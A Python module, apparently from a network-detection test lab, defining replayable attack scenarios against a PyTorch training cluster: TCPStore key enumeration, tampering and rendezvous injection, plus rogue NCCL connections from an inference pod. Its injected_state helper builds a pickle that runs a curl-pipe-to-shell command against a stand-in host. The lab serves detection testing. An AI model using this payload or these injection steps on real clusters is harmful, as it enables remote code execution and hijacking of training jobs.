"""Scenarios against a training cluster: rendezvous intrusion through PyTorch's TCPStore, and NCCL connections
from outside the training zone.

Captures: TCPStore queries and NCCL handshakes encoded from the wire brief
(inspector.lab.traffic_tcpstore, traffic_nccl). Replays: the same bytes over a TCP connection to
the target (a sidecar's tcp:// listener in front of a store or a rank).
"""

from __future__ import annotations

from inspector.lab import network as net
from inspector.lab.ncclcaps import BOOTSTRAP, NET_SOCKET, SOCKET_MAGIC, NcclWire
from inspector.lab.recorder import Lab
from inspector.lab.replay import Replay
from inspector.lab.scenarios.base import Scenario, Step
from inspector.lab.traffic_models import malicious_pickle
from inspector.lab.traffic_tcpstore import (
    delete_key_query,
    get_query,
    list_keys_query,
    opening,
    rendezvous_value,
    set_query,
    wait_query,
)

NCCL_OUTSIDE_TRAINING = 3500001
STORE_OUTSIDE_TRAINING = 3600001
STORE_DANGEROUS_PICKLE = 3600002
STORE_ENUMERATION = 3600003
STORE_UNVALIDATED = 3600004

RENDEZVOUS_KEY = "torch.rendezvous.job42"
NCCL_ID_KEY = "default_pg/0//cuda//0"
STORE_KEYS = ["/" + RENDEZVOUS_KEY, "/" + NCCL_ID_KEY, "/barrier/epoch3", "/world_size"]


def injected_state() -> bytes:
    return rendezvous_value(malicious_pickle("curl -s http://203.0.113.66/r.sh | sh"))


# -- rendezvous intrusion ------------------------------------------------------------------------------


def _rendezvous(lab: Lab, start: float) -> None:
    store = lab.store(net.COMPROMISED_INFERENCE, net.RANK0, start=start, step="connect")
    store.list_keys(STORE_KEYS, step="enumerate")
    store.get(NCCL_ID_KEY, NcclWire.unique_id(0x4433221100EEFFC0, f"{net.RANK0}:{net.NCCL_BOOTSTRAP_PORT}"))
    store.set(RENDEZVOUS_KEY, injected_state(), step="inject",
              what=f"SET /{RENDEZVOUS_KEY} = base64(pickle calling os.system)")
    store.delete_key("barrier/epoch3", step="tamper")
    store.close()
    second = lab.store(net.COMPROMISED_INFERENCE, net.RANK0, start=store.now + 2.0 * lab.rng.uniform(0.8, 1.2),
                       validate=False)
    second.query(set_query("probe", b"1"), what="SET /probe with no VALIDATE first", step="unvalidated")
    second.close()


def _rendezvous_replay(replay: Replay) -> None:
    validate, _ = opening()
    replay.attempt("TCPStore session: VALIDATE, LIST_KEYS, WAIT+GET the NCCL id, SET the rendezvous state, DELETE_KEY",
                   lambda: replay.tcp_send([validate, list_keys_query(), wait_query(NCCL_ID_KEY),
                                             get_query(NCCL_ID_KEY),
                                            set_query(RENDEZVOUS_KEY, injected_state()),
                                            delete_key_query("barrier/epoch3")]), step="inject")
    replay.attempt("TCPStore SET with no VALIDATE", lambda: replay.tcp_send([set_query("probe", b"1")]),
                   step="unvalidated")


# -- NCCL across zones -------------------------------------------------------------------------------------

ROGUE_COMM_MAGIC = 0x5566778899AABBCC


def _nccl_cross_zone(lab: Lab, start: float) -> None:
    lab.nccl_bootstrap(net.COMPROMISED_INFERENCE, net.RANK0, net.NCCL_BOOTSTRAP_PORT, start=start,
                       magic=ROGUE_COMM_MAGIC, rank=4, nranks=5, step="bootstrap")
    lab.nccl_handshake(net.COMPROMISED_INFERENCE, net.RANK1, net.NCCL_NET_PORT, start=start + 0.8,
                       socket_type=NET_SOCKET, payload=bytes(8), step="net-socket")


def _nccl_replay(replay: Replay) -> None:
    info = NcclWire.rank_info(172, 4, 5, f"{net.COMPROMISED_INFERENCE}:41001", f"{net.COMPROMISED_INFERENCE}:41002")
    replay.attempt("NCCL bootstrap: handshake and rank info as rank 4 of 5",
                   lambda: replay.tcp_send([NcclWire.handshake(ROGUE_COMM_MAGIC, BOOTSTRAP) + NcclWire.frame(info)],
                                           read_replies=False), step="bootstrap")
    replay.attempt("NCCL net-socket handshake",
                   lambda: replay.tcp_send([NcclWire.handshake(SOCKET_MAGIC, NET_SOCKET) + bytes(8)],
                                           read_replies=False), step="net-socket")


SCENARIOS = (
    Scenario(
        name="rendezvous-intrusion", title="Rendezvous intrusion: a foreign client in the training job's TCPStore",
        description="A compromised inference pod connects to rank 0's TCPStore, lists the keys, reads the NCCL "
                    "unique id, overwrites the rendezvous state with a pickle that calls os.system, deletes a "
                    "barrier key, then writes from a connection that never validated.",
        atlas=("AML.T0049", "AML.T0011.000", "AML.T0029"),
        steps=(Step(id="connect", description="store queries from outside TRAINING_NETS",
                    sids=(STORE_OUTSIDE_TRAINING,), policy=True),
               Step(id="enumerate", description="LIST_KEYS from outside", sids=(STORE_ENUMERATION,)),
               Step(id="inject", description="SET of the rendezvous state to a dangerous pickle",
                    sids=(STORE_DANGEROUS_PICKLE,)),
               Step(id="tamper", description="DELETE_KEY of a barrier key from outside", sids=(STORE_ENUMERATION,)),
               Step(id="unvalidated", description="a client that skips VALIDATE", sids=(STORE_UNVALIDATED,),
                    policy=True)),
        build=_rendezvous, replay=_rendezvous_replay, transports=("tcp",), span=4),
    Scenario(
        name="nccl-cross-zone", title="NCCL connections into the training zone from an inference pod",
        description="A compromised inference pod joins a communicator's bootstrap at rank 0 and opens a net "
                    "socket to rank 1: collectives (and the gradients they carry) crossing the training boundary.",
        atlas=("AML.T0025", "AML.T0049"),
        steps=(Step(id="bootstrap", description="bootstrap rank info sent to rank 0 from outside TRAINING_NETS",
                    sids=(NCCL_OUTSIDE_TRAINING,), policy=True),
               Step(id="net-socket", description="net-socket handshake to rank 1 from outside TRAINING_NETS",
                    sids=(NCCL_OUTSIDE_TRAINING,), policy=True)),
        build=_nccl_cross_zone, replay=_nccl_replay, transports=("tcp",), span=2),
)
